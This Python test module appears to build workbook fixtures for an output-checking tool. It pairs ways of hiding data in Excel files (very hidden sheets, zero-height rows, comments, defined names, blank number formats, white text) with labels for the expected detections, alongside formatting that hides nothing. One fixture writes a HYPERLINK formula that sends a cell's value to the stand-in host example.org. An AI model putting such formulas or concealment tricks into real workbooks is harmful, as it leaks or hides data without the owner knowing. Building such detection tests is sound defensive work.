"""What a workbook can hold that no reader of its sheets sees, and looks that hide nothing."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from tests.unit.output_checking.corpus.carriers import VALUES

Change = Callable[[Any], None]  # of an openpyxl workbook with one sheet


def _hidden_sheet(book: Any) -> None:
    sheet = book.create_sheet("rows")
    sheet.append(["person_id", "age"])
    sheet.sheet_state = "veryHidden"


def _hidden_row(book: Any) -> None:
    book.active.row_dimensions[2].hidden = True


def _thin_row(book: Any) -> None:
    book.active.row_dimensions[2].height = 0.2


def _rows_hidden_by_default(book: Any) -> None:
    book.active.sheet_format.zeroHeight = True


def _hidden_column(book: Any) -> None:
    book.active.column_dimensions["B"].hidden = True


def _narrow_column(book: Any) -> None:
    book.active.column_dimensions["B"].width = 0.05


def _folded_columns(book: Any) -> None:
    book.active.column_dimensions.group("B", "D", hidden=True)


def _comment(book: Any) -> None:
    book.active["A1"].comment = Comment("see patient 17", "x")


def _name(book: Any) -> None:
    book.defined_names["rows"] = DefinedName("rows", attr_text="{17,44;18,51}")


def _name_of_a_sheet(book: Any) -> None:
    book.active.defined_names["rows"] = DefinedName("rows", attr_text="{17,44;18,51}")


def _formula(book: Any) -> None:
    book.active["C2"] = '=HYPERLINK("https://example.org/?"&B2)'


def _list_to_choose_from(book: Any) -> None:
    _validated(book, DataValidation(type="list", formula1=f'"{",".join(map(str, VALUES[:40]))}"'))


def _prompt(book: Any) -> None:
    told = "\n".join(map(str, VALUES[:40]))
    _validated(book, DataValidation(type="whole", formula1="1", prompt=told, promptTitle="x"))


def _rule_of_looks(book: Any) -> None:
    formula = f"OR({','.join(f'B2={value}' for value in VALUES[:40])})"
    book.active.conditional_formatting.add("B2:B3", FormulaRule(formula=[formula]))


def _validated(book: Any, rule: DataValidation) -> None:
    book.active.add_data_validation(rule)
    rule.add("B2")


def _shown_as(number_format: str) -> Change:
    def change(book: Any) -> None:
        book.active["B2"].number_format = number_format

    return change


def _white(book: Any) -> None:
    book.active["B2"].font = Font(color="FFFFFFFF")


UNSEEN: dict[str, tuple[Change, str]] = {
    "a hidden sheet": (_hidden_sheet, "workbook-hidden-sheet"),
    "a hidden row": (_hidden_row, "workbook-hidden-lines"),
    "a row of no height": (_thin_row, "workbook-hidden-lines"),
    "rows that are hidden by default": (_rows_hidden_by_default, "workbook-hidden-lines"),
    "a hidden column": (_hidden_column, "workbook-hidden-lines"),
    "a column of no width": (_narrow_column, "workbook-hidden-lines"),
    "folded columns": (_folded_columns, "workbook-hidden-lines"),
    "a comment on a cell": (_comment, "workbook-comment"),
    "a name for values": (_name, "workbook-defined-name"),
    "a name for values in one sheet": (_name_of_a_sheet, "workbook-defined-name"),
    "a formula that reaches out": (_formula, "workbook-formula-reaching"),
    "values in a list to choose from": (_list_to_choose_from, "records-values"),
    "values in the prompt of a cell": (_prompt, "records-values"),
    "values in a rule of looks": (_rule_of_looks, "records-values"),
    "a cell that shows nothing": (_shown_as(";;;"), "workbook-hidden-lines"),
    "a cell that shows one text for every number": (_shown_as('"n";"n";"n";@'), "workbook-hidden-lines"),
    "a number that only texts would show": (_shown_as(";;;@"), "workbook-hidden-lines"),
    "white on white": (_white, "workbook-hidden-lines"),
}


def _formats(book: Any) -> None:
    shown = ('0.0" mg"', "#,##0", "0%", "[Red]-0.00", '_-* #,##0_-;-* #,##0_-;_-* "-"??_-', "General", "@")
    for column, look in enumerate(shown, start=3):
        for row in (2, 3):
            book.active.cell(row, column, 412.0).number_format = look


def _dates(book: Any) -> None:
    book.active["D2"] = 45_000
    book.active["D2"].number_format = "dd/mm/yyyy"


def _white_on_blue(book: Any) -> None:
    for cell in book.active[1]:
        cell.font = Font(color="FFFFFFFF", bold=True)
        cell.fill = PatternFill("solid", fgColor="FF1F4E78")


ORDINARY: dict[str, Change] = {
    "numbers in many formats": _formats,
    "a date kept as a number": _dates,
    "a heading in white on blue": _white_on_blue,
    "a list of wards to choose from": lambda book: _validated(
        book, DataValidation(type="list", formula1='"Cardiology,Geriatrics,Surgery"')
    ),
}
